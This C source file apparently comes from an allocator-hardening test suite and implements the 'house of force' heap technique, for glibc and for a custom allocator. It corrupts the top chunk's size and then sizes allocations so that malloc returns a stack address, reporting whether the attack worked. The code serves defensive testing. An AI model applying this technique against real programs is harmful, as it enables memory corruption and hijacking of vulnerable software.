/* House of force: the top block's (the free end of the heap's) size is enlarged to
 * reach a target on the stack.  A malloc that takes the top whole leaves a remainder
 * of the forged size (its foot written where the attacker chose); a malloc of the
 * distance moves it to the target, and the next malloc returns the target. */
#include "sec.h"

/* The request that gets a block of exactly w bytes (w a multiple of 16). */
static size_t request_for(size_t w) { return w - 33; }

/* glibc's: the top chunk's size set to -1, then a malloc of the distance. */
static int glibc_variant(void)
{
    if (allocator() == ON_SCUDO)
        not_applicable("no top block");
    struct fake_block on_stack;
    char *p = malloc(0x18);
    *(size_t *)launder(p + 0x18) = (size_t)-1;
    size_t distance = (size_t)((char *)&on_stack - (p + 0x10)) - 0x20;
    void *mover = malloc(distance);
    void *q = malloc(0x18);
    if ((char *)q >= (char *)&on_stack && (char *)q < (char *)(&on_stack + 1))
        worked("malloc returned a stack address");
    launder(mover);
    failed();
}

int main(void)
{
    if (allocator() != ON_HEAPCHECK)
        return glibc_variant();
    static struct fake_block *target;
    struct fake_block on_stack;
    target = &on_stack;
    groom();
    flush_prepare();
    void *t = malloc(3000); /* from the top: its next block is the top */
    for (int i = 0; i < 64 && !(*next_head(t) & 1) && (*next_head(t) & SIZE_MASK) > 70000; i++)
        t = malloc(60000); /* a top small enough that taking it whole is no mapping */
    size_t *top = next_head(t), top_size = *top & SIZE_MASK;
    if (*top & 1 || top_size > 70000)
        setup_error("no free top after t");
    size_t distance = (size_t)((char *)&target->head - (char *)top);
    if (distance % 16 || (char *)target < (char *)top)
        setup_error("the stack is not above the heap at a 16-byte distance");
    *(size_t *)launder(top) = (*top & ~SIZE_MASK) | (distance + 64); /* the overflow */
    void *whole = malloc(request_for(top_size));
    void *mover = malloc(request_for(distance - top_size));
    void *p = malloc(24);
    if (p == fake_user(target))
        worked("malloc returned a stack address");
    launder(whole);
    launder(mover);
    failed();
}
